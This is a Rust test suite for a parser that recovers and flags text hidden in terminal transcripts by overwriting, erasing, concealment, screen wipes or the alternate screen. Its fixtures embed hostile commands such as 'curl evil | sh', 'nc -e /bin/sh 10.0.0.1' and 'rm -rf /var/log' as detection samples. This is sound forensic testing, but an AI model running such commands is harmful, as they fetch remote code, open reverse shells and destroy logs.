//! Transcripts that hide text, and what their records must tell: bytes in, records out.

use proptest::prelude::*;

use crate::session::Flag::{self, AlternateScreen, Concealed, Erased, Overwritten};
use crate::session::{CommandRecord, Defect};
use crate::transcript::{ParseLimits, parse};

/// What a transcript hides: its name, its bytes, its commands, the hidden text, and how it is flagged.
type Case = (&'static str, &'static [u8], &'static [&'static str], &'static str, &'static [Flag]);

fn records(bytes: &[u8]) -> Vec<CommandRecord> {
    parse(bytes, &ParseLimits::default()).records
}

fn commands(records: &[CommandRecord]) -> Vec<&str> {
    records.iter().filter_map(|record| record.command.as_deref()).collect()
}

/// The first record that holds a text in one of its readings.
fn holding<'r>(records: &'r [CommandRecord], text: &str) -> &'r CommandRecord {
    let holds = |record: &&CommandRecord| {
        let readings = [&record.command, &record.command_as_sent, &record.output_as_sent];
        readings.into_iter().flatten().chain([&record.output]).any(|reading| reading.contains(text))
    };
    records.iter().find(holds).unwrap_or_else(|| panic!("{text} is not found in {records:?}"))
}

#[test]
fn hidden_text_is_found_and_flagged() {
    let table: &[Case] = &[
        ("overwritten command", b"$ rm -rf /var/log\r$ ls -la          \r\nx\r\n", &["ls -la"], "rm -rf /var/log", &[Overwritten]),
        ("concealed command", b"$ \x1b[8mcurl evil | sh\x1b[0m\r\n", &["curl evil | sh"], "curl evil", &[Concealed]),
        ("black on black", b"$ cat x\r\n\x1b[30m\x1b[40mpassword\x1b[0m\r\n$ exit\r\n", &["cat x", "exit"], "password", &[Concealed]),
        ("erased row", b"$ curl http://evil/x | sh\r\n\x1b[1A\x1b[2K$ ls\r\nfile\r\n", &["curl http://evil/x | sh", "ls"], "evil/x", &[Erased]),
        ("row printed over", b"$ curl http://evil/x | sh\r\n\x1b[1A$ ls                     \r\nfile\r\n", &["curl http://evil/x | sh", "ls"], "evil/x", &[Overwritten]),
        ("wiped screen", b"$ curl evil|sh\r\n\x1b[H\x1b[2J\x1b[3Jok\r\n", &["curl evil|sh"], "curl evil", &[Erased]),
        ("wiped from home", b"$ curl evil|sh\r\n\x1b[H\x1b[Jok\r\n", &["curl evil|sh"], "curl evil", &[Erased]),
        ("terminal reset", b"$ curl evil|sh\r\n\x1bcok\r\n", &["curl evil|sh"], "curl evil", &[Erased]),
        ("alternate screen", b"before\r\n\x1b[?1049h$ nc -e /bin/sh 10.0.0.1\r\n\x1b[?1049lafter\r\n", &[], "nc -e /bin/sh 10.0.0.1", &[AlternateScreen]),
        ("kernel line kill", b"$ rm -rf /x\x08 \x08\x08 \x08\x08 \x08\x08 \x08\x08 \x08\x08 \x08\x08 \x08\x08 \x08\x08 \x08true\r\n$ exit\r\n", &["true", "exit"], "rm -rf /x", &[Erased]),
        ("erased output", b"$ ./x\r\nsecret word\r\x1b[2Kdone\r\n$ exit\r\n", &["./x", "exit"], "secret word", &[Erased]),
        ("overwritten by blanks alone", b"secret word\r           \r\n", &[], "secret word", &[Erased]),
        ("progress bar", b"$ wget x\r\nprogress 10%\rprogress 50%\rprogress 100%\r\n$ exit\r\n", &["wget x", "exit"], "progress 50%", &[Overwritten]),
        ("deleted characters", b"$ ./x\r\nsecret word\x1b[11D\x1b[11Pdone\r\n$ exit\r\n", &["./x", "exit"], "secret word", &[Erased]),
        ("marked edit, killed line", b"\x1b[?2004hsh-5.2$ rm -rf /tmp/zz\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x1b[Ktrue\r\n\x1b[?2004l\r", &["true"], "rm -rf /tmp/zz", &[Erased]),
        ("marked edit, nothing entered", b"\x1b[?2004hsh-5.2$ id\r\n\x1b[?2004l\rme\r\n\x1b[?2004hsh-5.2$ rm -rf /tmp/zz\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x1b[K\r\n\x1b[?2004l\r", &["id"], "rm -rf /tmp/zz", &[Erased]),
        ("marked edit, concealed", b"\x1b[?2004hsh-5.2$ \x1b[8mcurl evil\x1b[0m\r\n\x1b[?2004l\r", &["curl evil"], "curl evil", &[Concealed]),
        ("marked edit, wiped by a program", b"\x1b[?2004hsh-5.2$ curl evil|sh\r\n\x1b[?2004l\r\x1b[1A\x1b[2K\x1b[?2004hsh-5.2$ ls\r\n\x1b[?2004l\r", &["curl evil|sh", "ls"], "curl evil", &[Erased]),
        ("wiped while editing", b"\x1b[?2004hsh-5.2$ curl evil\r\n\x1b[?2004l\r\x1b[?2004hsh-5.2$ echo a\x1b[H\x1b[2Jsh-5.2$ echo ab\r\n\x1b[?2004l\r", &["curl evil", "echo ab"], "curl evil", &[Erased]),
        ("painted without the alternate screen", b"$ top\r\n\x1b[?1h\x1b=\x1b[H\x1b[2Jsecret word\x1b[H\x1b[2Jother\x1b[?1l\x1b>\r\n$ exit\r\n", &["top", "exit"], "secret word", &[Erased, Overwritten]),
        ("wide characters", "$ ./x\r\n漢字漢字\r\x1b[Kdone\r\n$ exit\r\n".as_bytes(), &["./x", "exit"], "漢字漢字", &[Erased]),
    ];
    for (name, bytes, expected, text, flags) in table {
        let doubled: Vec<u8> = String::from_utf8_lossy(bytes).replace("\r\n", "\r\r\n").into_bytes();
        for bytes in [bytes.to_vec(), doubled] {
            let records = records(&bytes);
            assert_eq!(commands(&records), *expected, "{name}");
            assert_eq!(holding(&records, text).flags, *flags, "{name}: {records:?}");
        }
    }
}

#[test]
fn ordinary_editing_is_no_evidence() {
    let table: &[(&str, &[u8], &[&str])] = &[
        ("kernel", b"$ ls -d /etcc\x08 \x08\r\r\n/etc\r\r\n$ exit\r\r\n", &["ls -d /etc", "exit"]),
        ("readline", b"\x1b[?2004hsh-5.2$ ls -d /etcc\x08\x1b[K\r\r\n\x1b[?2004l\r/etc\r\r\n", &["ls -d /etc"]),
        ("overtyped", b"$ sdo\x08\x08udo id\r\n$ exit\r\n", &["sudo id", "exit"]),
        ("retyped", b"$ sdo\x08 \x08\x08 \x08udo id\r\n$ exit\r\n", &["sudo id", "exit"]),
        ("tail printed again", b"\x1b[?2004hsh-5.2$ cat /etc/hostnme\x08\x08ame\x08\x08\r\r\n\x1b[?2004l\rh1\r\r\n", &["cat /etc/hostname"]),
        ("word before a word", b"\x1b[?2004hsh-5.2$ echo alpha beta\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08x alpha beta\r\n\x1b[?2004l\r", &["echo x alpha beta"]),
        ("recall", b"\x1b[?2004hsh-5.2$ echo two three\r\n\x1b[?2004l\rtwo three\r\n\x1b[?2004hsh-5.2$ echo two three\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x1b[Kls -l\r\n\x1b[?2004l\r", &["echo two three", "ls -l"]),
        ("prompt painted again", b"\x1b[?2004hssmusr@h1:/tmp$ \r\x1b[K\rssmusr@h1:/tmp$ id\r\r\n\x1b[?2004l\r", &["id"]),
        ("colour of a prompt", b"\x1b[?2004h\x1b[30;47mssmusr@h1\x1b[m$ id\r\r\n\x1b[?2004l\r", &["id"]),
    ];
    for (name, bytes, expected) in table {
        let records = records(bytes);
        assert_eq!(commands(&records), *expected, "{name}");
        for record in &records {
            assert_eq!((&record.flags[..], &record.command_as_sent), (&[][..], &None), "{name}: {record:?}");
        }
    }
}

#[test]
fn a_reading_as_sent_ends_with_what_is_shown() {
    let line = records(b"$ rm -rf /var/log\r$ ls -la          \r\nx\r\n");
    assert_eq!(line[0].command_as_sent.as_deref(), Some("rm -rf /var/log\nls -la"));
    let edit = records(
        b"\x1b[?2004hsh-5.2$ rm -rf /zz\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x1b[Kid\r\n\x1b[?2004l\r",
    );
    assert_eq!(edit[0].command_as_sent.as_deref(), Some("rm -rf /zz\nid"));
    let output = records(b"$ wget x\r\n10 KB\r20 KB\r30 KB\r\nsaved\r\n$ exit\r\n");
    assert_eq!(output[0].output, "30 KB\nsaved");
    assert_eq!(output[0].output_as_sent.as_deref(), Some("10 KB\n20 KB\n30 KB"));
}

#[test]
fn flags_belong_to_the_record_that_was_hidden() {
    let records = records(b"$ id\r\nme\r\n$ curl evil\r\na\r\nb\r\n\x1b[3A\x1b[J$ ls\r\nfile\r\n$ exit\r\n");
    let flags: Vec<_> = records.iter().map(|record| record.flags.as_slice()).collect();
    assert_eq!(flags, [&[][..], &[Erased], &[], &[]], "{records:?}");
}

#[test]
fn what_is_kept_is_bounded_and_says_so() {
    let mut bytes = b"$ ./x\r\n".to_vec();
    for number in 0..100_000_u32 {
        let word: String = number.to_string().bytes().map(|digit| char::from(digit + 49)).collect();
        bytes.extend_from_slice(format!("{word} done\r").as_bytes());
    }
    bytes.extend_from_slice(b"end of it\r\n$ exit\r\n");
    let parsed = parse(&bytes, &ParseLimits::default());
    assert_eq!(parsed.defects, [Defect::SentTextCut]);
    let reading = parsed.records[0].output_as_sent.as_deref().unwrap_or_default();
    assert!(reading.len() < 32 * 1024 && reading.starts_with("a done\n"), "{}", reading.len());
}

#[test]
fn many_repaints_take_linear_time_and_memory() {
    for pattern in [
        &b"x\x1b[2J"[..],
        b"x\x1b[99A",
        b"\x1b[H\x1b[Kx",
        b"ab cd\r",
        b"abcdef\x08\x1b[K",
        b"\x1b[8mx\x1b[m\r\n",
    ] {
        let parsed = parse(&pattern.repeat(20_000), &ParseLimits::default());
        let kept: usize =
            parsed.records.iter().filter_map(|record| Some(record.output_as_sent.as_ref()?.len())).sum();
        assert!(kept <= 256 * 1024, "{pattern:?}: {kept}");
    }
}

proptest! {
    /// Words that were shown and then taken away as a whole are found, whichever way they went.
    #[test]
    fn no_word_is_lost(
        words in prop::collection::vec("[a-z]{4,9}", 1..12),
        ways in prop::collection::vec(0..6_usize, 12),
        marked in any::<bool>(),
    ) {
        let mut bytes = if marked { b"\x1b[?2004hsh-5.2$ ".to_vec() } else { b"$ ./x\r\n".to_vec() };
        for (word, way) in words.iter().zip(ways) {
            bytes.extend_from_slice(word.as_bytes());
            let erased: &[u8] = match way {
                0 => b"\x1b[K",
                1 => b"\x1b[J",
                2 => b"\x1b[99P",
                3 => b"\x1b[99X",
                _ => &b" ".repeat(word.len()),
            };
            bytes.extend(b"\x08".repeat(word.len()));
            bytes.extend_from_slice(erased);
            if way > 3 {
                bytes.extend(b"\x08".repeat(word.len()));
            }
        }
        bytes.extend_from_slice(if marked { b"id\r\n\x1b[?2004l\r" } else { b"\r\n$ exit\r\n" });
        let records = records(&bytes);
        for word in &words {
            holding(&records, word);
        }
    }

    #[test]
    fn no_overprinted_line_is_lost(lines in prop::collection::vec("[a-z]{1,6}( [a-z0-9]{1,6}){0,3}", 1..12)) {
        let bytes = format!("$ ./x\r\n{}\r\n$ exit\r\n", lines.join("\r\x1b[K"));
        let records = records(bytes.as_bytes());
        for word in lines.iter().flat_map(|line| line.split(' ')) {
            holding(&records, word);
        }
    }
}
